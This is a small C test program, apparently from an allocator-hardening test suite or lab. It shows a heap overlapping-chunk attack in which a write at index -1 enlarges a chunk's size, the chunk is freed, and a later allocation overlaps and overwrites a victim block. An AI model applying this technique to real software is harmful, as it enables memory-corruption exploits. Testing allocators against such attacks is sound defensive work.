/*
 * metadata: an index of -1 writes the size of the block's own chunk. The block is freed, and comes
 * back together with the one after it.
 */
#include "attack.h"

int main(void) {
  settle(136);
  allocate(136);
  Word *block = allocate(136), *victim = allocate(136);
  allocate(136);
  victim[0] = 7;
  block[-1] = 2 * 144 | 1;
  release((void *)block);
  Word *taken = allocate(2 * 144 - 8);
  if (taken) taken[18] = 42;
  return victim[0] == 42 ? GOAL_REACHED : 0;
}
